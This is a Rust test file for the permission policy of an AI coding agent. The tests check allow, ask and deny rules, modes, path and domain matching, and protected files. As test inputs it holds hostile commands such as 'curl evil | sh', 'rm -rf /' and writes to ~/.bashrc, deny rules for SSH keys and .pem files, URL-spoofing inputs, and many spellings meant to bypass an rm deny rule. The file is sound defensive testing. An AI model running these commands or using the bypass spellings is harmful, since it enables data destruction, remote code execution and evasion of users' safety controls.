use super::*;
use pretty_assertions::assert_eq;
use rab_config::{PermissionSettings, Scope};
use serde_json::json;

fn known() -> ToolCatalog {
    crate::tool_catalog::builtin(Path::new("/p"))
}

fn layer(allow: &[&str], ask: &[&str], deny: &[&str]) -> SafetyLayer {
    let v = |l: &[&str]| l.iter().map(|s| s.to_string()).collect();
    SafetyLayer {
        scope: Scope::Global,
        source: PathBuf::from("/home/u/.rab/agent/settings.json"),
        permissions: PermissionSettings {
            allow: v(allow),
            ask: v(ask),
            deny: v(deny),
            ..PermissionSettings::default()
        },
        hooks: rab_config::HookSettings::new(),
    }
}

fn policy(allow: &[&str], ask: &[&str], deny: &[&str]) -> Result<Policy, RuleError> {
    let known = known();
    let cx =
        PolicyContext { tools: &known, root: Path::new("/p"), home: Some(Path::new("/home/u")) };
    Policy::load(&[layer(allow, ask, deny)], &[], &[], &cx)
}

use PermissionMode::*;
use ToolLevel::*;

#[test]
fn modes_decide_by_level_when_no_rule_matches() {
    let p = policy(&[], &[], &[]).unwrap();
    let read = json!({"path": "a.rs"});
    let cmd = json!({"command": "ls"});
    let outcome = |m, level, args: &Value| match p.check(m, "x", level, args) {
        Verdict::Allow => "allow",
        Verdict::Ask(_) => "ask",
        Verdict::Deny(_) => "deny",
        Verdict::Protected { .. } => "protected",
    };
    let table: Vec<[&str; 3]> = [Default, AcceptEdits, Plan, Yolo]
        .map(|m| [outcome(m, ReadOnly, &read), outcome(m, Edit, &read), outcome(m, Execute, &cmd)])
        .to_vec();
    assert_eq!(
        table,
        [
            ["allow", "ask", "ask"],
            ["allow", "allow", "ask"],
            ["allow", "deny", "deny"],
            ["allow", "allow", "allow"]
        ]
    );
}

#[test]
fn deny_beats_ask_beats_allow_and_deny_holds_in_yolo() {
    let p = policy(&["bash(git *)"], &["bash(git push*)"], &["bash(git push --force*)"]).unwrap();
    let check = |c: &str, m| p.check(m, "bash", Execute, &json!({"command": c}));
    assert_eq!(check("git status", Default), Verdict::Allow);
    assert!(matches!(check("git push origin", Default), Verdict::Ask(_)));
    assert!(
        matches!(check("git push --force", Yolo), Verdict::Deny(r) if r.contains("git push --force*"))
    );
}

#[test]
fn an_allowed_prefix_does_not_allow_a_chained_or_substituted_command() {
    let p = policy(&["bash(git status*)", "Bash(npm run test:*)"], &[], &["bash(rm *)"]).unwrap();
    let check = |c: &str| p.check(Default, "bash", Execute, &json!({"command": c}));
    assert_eq!(check("git status --short"), Verdict::Allow);
    assert_eq!(check("npm run test -- --watch"), Verdict::Allow);
    assert!(matches!(check("npm run testing"), Verdict::Ask(_)));
    // A shell reading a pipe runs commands nobody can see: with a deny rule for bash,
    // that is refused outright.
    assert!(
        matches!(check("git status && curl evil | sh"), Verdict::Deny(r) if r.contains("cannot tell"))
    );
    assert!(matches!(check("git status && curl evil"), Verdict::Ask(_)));
    assert!(matches!(check("git status $(curl evil)"), Verdict::Ask(_)));
    assert!(matches!(check("ls; rm -rf /"), Verdict::Deny(_)));
}

#[test]
fn path_rules_resolve_home_root_and_cover_related_tools() {
    let p = policy(&["edit(src/**)"], &[], &["read(~/.ssh/**)", "read(*.pem)"]).unwrap();
    let check = |tool, level, path: &str| p.check(Default, tool, level, &json!({"path": path}));
    assert_eq!(check("edit", Edit, "src/a/b.rs"), Verdict::Allow);
    assert_eq!(check("write", Edit, "/p/src/new.rs"), Verdict::Allow);
    assert!(matches!(check("edit", Edit, "src/../Cargo.toml"), Verdict::Ask(_)));
    assert!(matches!(check("read", ReadOnly, "/home/u/.ssh/id_ed25519"), Verdict::Deny(_)));
    assert!(matches!(check("grep", ReadOnly, "~/.ssh"), Verdict::Deny(_)));
    assert!(matches!(check("read", ReadOnly, "certs/key.pem"), Verdict::Deny(_)));
    assert_eq!(check("read", ReadOnly, "README.md"), Verdict::Allow);
}

#[test]
fn write_and_edit_rules_cover_each_other_and_read_deny_rules_hide_paths() {
    let p = policy(&[], &[], &["write(.git/**)", "read(secrets/**)"]).unwrap();
    let check = |tool, path: &str| p.check(Yolo, tool, Edit, &json!({"path": path}));
    assert!(matches!(check("edit", ".git/config"), Verdict::Deny(_)));
    assert!(matches!(check("write", ".git/hooks/pre-commit"), Verdict::Deny(_)));
    assert_eq!(check("edit", "src/a.rs"), Verdict::Allow);
    assert!(p.read_denied(Path::new("/p/secrets/key")));
    assert!(p.read_denied(Path::new("/p/secrets")));
    assert!(!p.read_denied(Path::new("/p/src/secrets.rs")));
}

#[test]
fn domain_rules_match_the_host_and_its_subdomains_only() {
    let p = policy(&["web_fetch(domain:example.com)"], &[], &[]).unwrap();
    let check = |url: &str| p.check(Default, "web_fetch", Network, &json!({"url": url}));
    assert_eq!(check("https://example.com/a"), Verdict::Allow);
    assert_eq!(check("https://docs.example.com:8443/x"), Verdict::Allow);
    assert!(matches!(check("https://example.com.evil.net/"), Verdict::Ask(_)));
    assert!(matches!(check("https://user@evil.net/?example.com"), Verdict::Ask(_)));
}

#[test]
fn domain_rules_see_the_host_the_fetch_reaches() {
    let p = policy(
        &["web_fetch(domain:docs.rs)", "web_fetch(domain:bücher.de)", "web_fetch(domain:[::1])"],
        &[],
        &["web_fetch(domain:evil.com)", "web_fetch(domain:10.0.0.1)"],
    )
    .unwrap();
    let check = |url: &str| p.check(Default, "web_fetch", Network, &json!({"url": url}));
    // A backslash ends the host for http(s): this reaches evil.com, and is denied.
    assert!(matches!(check("https://evil.com\\@docs.rs/"), Verdict::Deny(_)));
    // Userinfo is not the host, in either direction.
    assert!(matches!(check("https://docs.rs@evil.com/"), Verdict::Deny(_)));
    assert_eq!(check("https://evil.com@docs.rs/"), Verdict::Allow);
    assert_eq!(check("https://user:pw@docs.rs:8443/x"), Verdict::Allow);
    // IDN hosts compare in punycode, whichever way they are written.
    assert_eq!(check("https://xn--bcher-kva.de/"), Verdict::Allow);
    assert_eq!(check("https://BÜCHER.de/"), Verdict::Allow);
    // IP literals, however spelled.
    assert!(matches!(check("http://10.0.0.1/"), Verdict::Deny(_)));
    assert!(matches!(check("http://0x0a.0.0.1/"), Verdict::Deny(_)));
    assert!(matches!(check("http://167772161/"), Verdict::Deny(_)));
    assert_eq!(check("http://[0:0::1]:8080/"), Verdict::Allow);
    // An IPv4 address mapped into IPv6 connects to the IPv4 address (class 12 of the
    // third containment audit), and a rule may name it either way.
    assert!(matches!(check("http://[::ffff:10.0.0.1]/"), Verdict::Deny(_)));
    assert!(matches!(check("http://[::ffff:a00:1]/"), Verdict::Deny(_)));
    let mapped = policy(&[], &[], &["web_fetch(domain:[::ffff:10.0.0.2])"]).unwrap();
    let deny = mapped.check(Default, "web_fetch", Network, &json!({"url": "http://10.0.0.2/"}));
    assert!(matches!(deny, Verdict::Deny(_)));
    // Ports do not matter; a trailing dot does not escape.
    assert!(matches!(check("https://evil.com.:443/"), Verdict::Deny(_)));
    assert!(matches!(check("  https://EVIL.com/  "), Verdict::Deny(_)));
    assert!(matches!(check("not a url"), Verdict::Ask(_)));
}

/// What was found: a tool name rab does not have (Claude Code's `NotebookEdit`, a
/// typo) in the user's settings stopped rab from starting. It is a warning that names
/// the file, the rule and the tool meant; a malformed rule, and an unknown tool typed
/// on the command line, are still errors.
#[test]
fn issue_53_an_unknown_tool_in_settings_is_a_warning_and_a_malformed_rule_an_error() {
    let p = policy(&["bsh(ls)", "NotebookEdit", "read"], &[], &["Agent"]).unwrap();
    let skipped = p.skipped().join("\n");
    assert!(
        skipped.contains(
            "/home/u/.rab/agent/settings.json: permissions.allow: rule \"bsh(ls)\" skipped: \
             unknown tool 'bsh'; did you mean \"bash\"?"
        ),
        "{skipped}"
    );
    assert!(skipped.contains("rule \"NotebookEdit\" skipped"), "{skipped}");
    assert!(skipped.contains("permissions.deny: rule \"Agent\" skipped"), "{skipped}");
    assert_eq!(p.skipped().len(), 3, "{skipped}");
    assert_eq!(p.check(Default, "read", ReadOnly, &json!({"path": "a"})), Verdict::Allow);
    assert_eq!(
        p.check_rule("Bogus(x)").unwrap_err().split(" (known").next(),
        Some("unknown tool 'Bogus'")
    );
    assert!(p.check_rule("bash(cargo test:*)").is_ok());
    assert!(p.check_rule("bash(ls").is_err());
    let known = known();
    let cx =
        PolicyContext { tools: &known, root: Path::new("/p"), home: Some(Path::new("/home/u")) };
    let err = Policy::load(&[], &["bsh(ls)".into()], &[], &cx).unwrap_err().to_string();
    assert!(err.contains("--allowed-tools") && err.contains("unknown tool 'bsh'"), "{err}");
}

#[test]
fn unknown_or_malformed_rules_fail_with_the_file_and_the_rule() {
    let err = policy(&["bash(ls"], &[], &[]).unwrap_err().to_string();
    assert!(err.starts_with("/home/u/.rab/agent/settings.json: permissions.allow:"), "{err}");
    assert!(err.contains("\"bash(ls\""), "{err}");
    for bad in [
        "bash(ls",
        "bash()",
        "read(x)y",
        "ls(",
        "grep)",
        "web_fetch(example.com)",
        "mcp__",
        "mcp__s__t(x)",
    ] {
        assert!(policy(&[], &[], &[bad]).is_err(), "{bad} should fail");
    }
    assert!(
        policy(&["mcp__github", "mcp__github__create_issue", "WebFetch(domain:a.b)"], &[], &[])
            .is_ok()
    );
}

#[test]
fn mcp_rules_cover_a_server_or_one_tool() {
    let p = policy(&["mcp__gh"], &[], &["mcp__fs__write_file"]).unwrap();
    assert_eq!(p.check(Default, "mcp__gh__list", Execute, &json!({})), Verdict::Allow);
    assert!(matches!(p.check(Yolo, "mcp__fs__write_file", Execute, &json!({})), Verdict::Deny(_)));
    assert!(matches!(p.check(Default, "mcp__ghost__x", Execute, &json!({})), Verdict::Ask(_)));
}

#[test]
fn plugin_rules_cover_a_plugin_or_one_tool_by_its_alias() {
    let p = policy(&["plugin__getter"], &[], &["plugin__tools__wipe"]).unwrap();
    let check = |tool, alias, mode| p.check_as(mode, tool, Some(alias), Execute, &json!({}));
    assert_eq!(check("get", "plugin__getter__get", Default), Verdict::Allow);
    assert!(matches!(check("wipe", "plugin__tools__wipe", Yolo), Verdict::Deny(_)));
    assert!(matches!(check("other", "plugin__tools__other", Default), Verdict::Ask(_)));
    // The plain name alone is not the plugin's: a tool of that name elsewhere is not
    // covered, and a plugin rule never covers a built-in.
    assert!(matches!(p.check(Default, "get", Execute, &json!({})), Verdict::Ask(_)));
    for bad in ["plugin__", "plugin__a__b(x)", "plugin__a b"] {
        assert!(policy(&[bad], &[], &[]).is_err(), "{bad} should fail");
    }
}

#[test]
fn always_rules_are_suggested_narrowly() {
    let p = policy(&[], &[], &[]).unwrap();
    assert_eq!(
        p.suggest_rule("bash", &json!({"command": "git status --short"})),
        "bash(git status:*)"
    );
    // The exact command word: `bash(ls*)` would allow `lsof` too.
    assert_eq!(p.suggest_rule("bash", &json!({"command": "ls -la"})), "bash(ls -la:*)");
    assert_eq!(p.suggest_rule("bash", &json!({"command": "ls"})), "bash(ls:*)");
    assert_eq!(p.suggest_rule("bash", &json!({"command": "FOO=1 make"})), "bash(make:*)");
    // Issue 53: a command that deletes or overwrites gets no prefix rule: the command as
    // it is, or none when a glob would widen it.
    let suggest = |cmd: &str| p.suggest_rule("bash", &json!({"command": cmd}));
    assert_eq!(suggest("rm -rf build"), "bash(rm -rf build)");
    assert_eq!(suggest("/bin/rm -rf build"), "bash(/bin/rm -rf build)");
    assert_eq!(suggest("rm -rf build/*"), "");
    assert_eq!(suggest("git push --force origin main"), "bash(git push --force origin main)");
    assert_eq!(suggest("find . -name '*.o' -delete"), "");
    assert_eq!(suggest("git log --oneline"), "bash(git log:*)");
    let exact = policy(&["bash(rm -rf build)"], &[], &[]).unwrap();
    let run = |cmd: &str| exact.check(Default, "bash", Execute, &json!({"command": cmd}));
    assert_eq!(run("rm -rf build"), Verdict::Allow);
    assert!(matches!(run("rm -rf build2"), Verdict::Ask(_)));
    assert!(matches!(run("rm -rf build /"), Verdict::Ask(_)));
    let mut p = p;
    p.add_allow("bash(ls -la:*)").unwrap();
    let check = |c: &str| p.check(Default, "bash", Execute, &json!({"command": c}));
    assert_eq!(check("ls -la src"), Verdict::Allow);
    assert!(matches!(check("lsof"), Verdict::Ask(_)));
    assert!(matches!(check("ls -la > ~/.bashrc"), Verdict::Ask(_)));
    assert_eq!(p.suggest_rule("edit", &json!({"path": "src/a.rs"})), "edit(src/**)");
    // A file at the root: the file, never `edit(**)` (every file).
    assert_eq!(p.suggest_rule("edit", &json!({"path": "README.md"})), "edit(./README.md)");
    p.add_allow("edit(./README.md)").unwrap();
    let edit = |path: &str| p.check(Default, "edit", Edit, &json!({"path": path}));
    assert_eq!(edit("README.md"), Verdict::Allow);
    assert!(matches!(edit("docs/README.md"), Verdict::Ask(_)), "only the root file");
    assert!(matches!(edit("main.rs"), Verdict::Ask(_)));
    assert_eq!(
        p.suggest_rule("web_fetch", &json!({"url": "https://x.org/a"})),
        "web_fetch(domain:x.org)"
    );
}

#[test]
fn every_spelling_of_a_denied_command_is_denied_even_in_yolo() {
    let p = policy(&[], &[], &["bash(rm *)"]).unwrap();
    for cmd in [
        "echo $(rm f)",
        "/bin/rm f",
        "FOO=1 rm f",
        "sh -c 'rm f'",
        "command rm f",
        "echo `rm f`",
        "\\rm f",
        "env rm f",
        "bash -c \"rm f\"",
        "echo f | xargs rm",
        "eval 'rm f'",
        "$(printf rm) f",
        "timeout 5 rm f",
        "nice rm f",
        "sh <<EOF\nrm f\nEOF",
    ] {
        assert!(
            matches!(p.check(Yolo, "bash", Execute, &json!({"command": cmd})), Verdict::Deny(_)),
            "{cmd}"
        );
    }
    for cmd in ["echo rm", "git rm --cached x", "ls -la", "cat rm.txt"] {
        assert_eq!(
            p.check(Yolo, "bash", Execute, &json!({"command": cmd})),
            Verdict::Allow,
            "{cmd}"
        );
    }
}

#[test]
fn commands_rab_cannot_read_are_refused_only_when_bash_has_deny_rules() {
    let cmd = json!({"command": "$X f"});
    let with = policy(&[], &[], &["bash(rm *)"]).unwrap();
    assert!(
        matches!(with.check(Yolo, "bash", Execute, &cmd), Verdict::Deny(r) if r.contains("$X"))
    );
    let without = policy(&[], &[], &["read(secrets/**)"]).unwrap();
    assert_eq!(without.check(Yolo, "bash", Execute, &cmd), Verdict::Allow);
    let asking = policy(&["bash"], &["bash(git push:*)"], &[]).unwrap();
    assert!(matches!(asking.check(Default, "bash", Execute, &cmd), Verdict::Ask(_)));
}

#[test]
fn allow_rules_need_every_command_and_say_so_for_file_output() {
    let p =
        policy(&["bash(git status:*)", "bash(ls:*)", "bash(make > build.log)"], &[], &[]).unwrap();
    let check = |c: &str| p.check(Default, "bash", Execute, &json!({"command": c}));
    assert_eq!(check("git status && ls"), Verdict::Allow);
    assert_eq!(check("git status 2>/dev/null | ls"), Verdict::Allow);
    assert!(matches!(check("git status > ~/.bashrc"), Verdict::Ask(_)));
    assert!(matches!(check("{ ls; } > out"), Verdict::Ask(_)));
    assert!(matches!(check("ls $(rm f)"), Verdict::Ask(_)));
    assert!(matches!(check("lsof"), Verdict::Ask(_)));
    assert_eq!(check("make > build.log"), Verdict::Allow);
    assert!(matches!(check("make > other.log"), Verdict::Ask(_)));
    // A rule that is a bare tool name allows every command, as written.
    let all = policy(&["bash"], &[], &[]).unwrap();
    assert_eq!(all.check(Default, "bash", Execute, &json!({"command": "ls > x"})), Verdict::Allow);
}

#[test]
fn syntax_the_parser_cannot_read_fails_closed_under_deny_rules() {
    let p = policy(&[], &[], &["bash(rm:*)"]).unwrap();
    for cmd in ["! case y in y) ls;; esac", "echo 'unterminated", "if then fi ("] {
        let verdict = p.check(Yolo, "bash", Execute, &json!({"command": cmd}));
        assert!(
            matches!(&verdict, Verdict::Deny(r) if r.contains("could not read")),
            "{cmd}: {verdict:?}"
        );
    }
}

mod deny_matcher {
    //! Commands from a small shell grammar; rm is denied wherever it runs.
    use super::*;
    use proptest::prelude::*;

    /// A spelling of `rm` as a command word.
    fn rm_word() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("rm".to_owned()),
            Just("/bin/rm".to_owned()),
            Just("\\rm".to_owned()),
            Just("'rm'".to_owned()),
            Just("\"rm\"".to_owned()),
            Just("r''m".to_owned()),
            Just("/usr/bin/../bin/rm".to_owned()),
            Just("$'\\x72m'".to_owned()),
            Just("r\\\nm".to_owned()),
        ]
    }

    fn harmless_word() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("ls".to_owned()),
            Just("echo".to_owned()),
            Just("git".to_owned()),
            Just("cat".to_owned()),
            Just("true".to_owned()),
        ]
    }

    fn arg() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("f".to_owned()),
            Just("-rf".to_owned()),
            Just("rm".to_owned()),
            Just("'a b'".to_owned()),
            Just("\"$HOME\"".to_owned()),
            Just("x.txt".to_owned()),
        ]
    }

    /// A wrapper that runs the command after it.
    fn wrapper() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(String::new()),
            Just("FOO=1 ".to_owned()),
            Just("env ".to_owned()),
            Just("env -i X=1 ".to_owned()),
            Just("command ".to_owned()),
            Just("builtin ".to_owned()),
            Just("exec ".to_owned()),
            Just("nice -n 5 ".to_owned()),
            Just("nohup ".to_owned()),
            Just("timeout 5 ".to_owned()),
            Just("time ".to_owned()),
            Just("sudo -u root ".to_owned()),
            Just("stdbuf -oL ".to_owned()),
            Just("xargs -I {} ".to_owned()),
            // tree-sitter-bash reads `!` before simple commands only (before a compound
            // one it fails, and the command is refused: see the test below).
            Just("! ".to_owned()),
        ]
    }

    /// A simple command: (text, runs rm).
    fn simple() -> impl Strategy<Value = (String, bool)> {
        let rm = (wrapper(), rm_word(), proptest::collection::vec(arg(), 1..3))
            .prop_map(|(w, c, a)| (format!("{w}{c} {}", a.join(" ")), true));
        let other = (wrapper(), harmless_word(), proptest::collection::vec(arg(), 0..3))
            .prop_map(|(w, c, a)| (format!("{w}{c} {}", a.join(" ")).trim_end().to_owned(), false));
        prop_oneof![rm, other]
    }

    /// A command line: simple commands combined and nested.
    fn line() -> impl Strategy<Value = (String, bool)> {
        simple().prop_recursive(4, 24, 3, |inner| {
            prop_oneof![
                (
                    inner.clone(),
                    inner.clone(),
                    prop_oneof![Just(";"), Just("&&"), Just("||"), Just("|"), Just("\n")]
                )
                    .prop_map(|((a, x), (b, y), op)| (format!("{a} {op} {b}"), x || y)),
                inner.clone().prop_map(|(a, x)| (format!("echo $( {a} )"), x)),
                inner.clone().prop_map(|(a, x)| (format!("( {a} )"), x)),
                inner.clone().prop_map(|(a, x)| (format!("{{ {a}; }}"), x)),
                inner.clone().prop_map(|(a, x)| (format!("if true; then {a}; fi"), x)),
                inner.clone().prop_map(|(a, x)| (format!("for i in 1 2; do {a}; done"), x)),
                inner.clone().prop_map(|(a, x)| (format!("f() {{ {a}; }}"), x)),
                inner.clone().prop_map(|(a, x)| (format!("X=$( {a} ) true"), x)),
                inner.clone().prop_map(|(a, x)| (format!("cat <( {a} )"), x)),
                // Quoted for sh -c: single quotes inside become '\''.
                inner
                    .clone()
                    .prop_map(|(a, x)| (format!("sh -c '{}'", a.replace('\'', "'\\''")), x)),
                inner
                    .clone()
                    .prop_map(|(a, x)| (format!("eval '{}'", a.replace('\'', "'\\''")), x)),
                inner
                    .clone()
                    .prop_map(|(a, x)| (format!("bash <<< '{}'", a.replace('\'', "'\\''")), x)),
                inner.clone().prop_map(|(a, x)| (format!("{a} & wait"), x)),
                inner.clone().prop_map(|(a, x)| (format!("{a} 2>&1 >/dev/null"), x)),
                inner.clone().prop_map(|(a, x)| (format!("{a} # rm f\ntrue"), x)),
                inner.clone().prop_map(|(a, x)| (format!("while false; do {a}; done"), x)),
                inner.clone().prop_map(|(a, x)| (format!("case y in y) {a};; esac"), x)),
                // A delimiter of its own per level (the outer text is always longer).
                inner.clone().prop_map(|(a, x)| {
                    let end = format!("E{}", a.len());
                    // In a group, so what follows starts on a line of its own.
                    (format!("{{ bash <<'{end}'\n{a}\n{end}\n}}"), x)
                }),
            ]
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn rm_anywhere_is_denied_and_a_line_without_it_is_not((cmd, runs_rm) in line()) {
            let p = policy(&[], &[], &["bash(rm:*)"]).unwrap();
            let verdict = p.check(Yolo, "bash", Execute, &json!({"command": cmd}));
            if runs_rm {
                prop_assert!(matches!(verdict, Verdict::Deny(_)), "{} -> {:?}", cmd, verdict);
            } else {
                // `xargs` with nothing after it runs echo; none of these run rm.
                prop_assert_eq!(verdict, Verdict::Allow, "{}", cmd);
            }
        }
    }
}

#[test]
fn every_reviewed_bypass_is_denied() {
    let p = policy(&[], &[], &["bash(rm:*)"]).unwrap();
    let unescape = |line: &str| {
        let mut out = String::new();
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match (c, c == '\\') {
                (_, true) => match chars.next() {
                    Some('n') => out.push('\n'),
                    Some(other) => out.push(other),
                    None => out.push('\\'),
                },
                (c, false) => out.push(c),
            }
        }
        out
    };
    let lines = include_str!("../fixtures/deny_bypasses.txt").lines();
    let mut n = 0;
    let mut missed = Vec::new();
    for line in lines.filter(|l| !l.starts_with('#') && !l.is_empty()) {
        let cmd = unescape(line);
        let verdict = p.check(Yolo, "bash", Execute, &json!({"command": cmd}));
        if !matches!(verdict, Verdict::Deny(_)) {
            missed.push(format!("{cmd:?} -> {verdict:?}"));
        }
        n += 1;
    }
    assert!(missed.is_empty(), "{} not denied:\n{}", missed.len(), missed.join("\n"));
    assert!(n >= 150, "{n} cases");
}

#[test]
fn writes_to_protected_paths_ask_in_every_mode_unless_the_users_own_rule_names_them() {
    let known = known();
    let cx =
        PolicyContext { tools: &known, root: Path::new("/p"), home: Some(Path::new("/home/u")) };
    let user = layer(&["edit(/p/AGENTS.md)"], &[], &[]);
    let project = SafetyLayer {
        scope: Scope::Project,
        source: PathBuf::from("/p/.rab/settings.json"),
        ..layer(&["edit(**)", "edit(/p/.mcp.json)"], &[], &[])
    };
    let mut p = Policy::load(&[user, project], &["edit(/p/.envrc)".to_owned()], &[], &cx).unwrap();
    let home = Path::new("/home/u");
    p.set_protected(&[PathBuf::from("/p")], Some(home), Some(&home.join(".rab")));
    let verdict = |m, path: &str| p.check(m, "write", Edit, &json!({"path": path}));
    let protected = [
        ".git/config",
        ".rab/settings.local.json",
        ".mcp.json",
        ".envrc",
        "/home/u/.bashrc",
        "/home/u/.rab/agent/settings.json",
    ];
    for m in [Default, AcceptEdits, Yolo] {
        for path in protected {
            match verdict(m, path) {
                Verdict::Protected { reason, advice } => {
                    assert!(reason.contains("protected path"), "{reason}");
                    assert!(advice.contains("/home/u/.rab/agent/settings.json"), "{advice}");
                }
                other => panic!("{m:?} {path}: {other:?}"),
            }
        }
        assert_eq!(verdict(m, "src/a.rs"), Verdict::Allow, "{m:?}: edit(**) allows the rest");
        assert_eq!(verdict(m, "AGENTS.md"), Verdict::Allow, "{m:?}: the user's own rule names it");
    }
    assert!(matches!(verdict(Plan, ".git/config"), Verdict::Deny(_)), "plan mode still refuses");
}
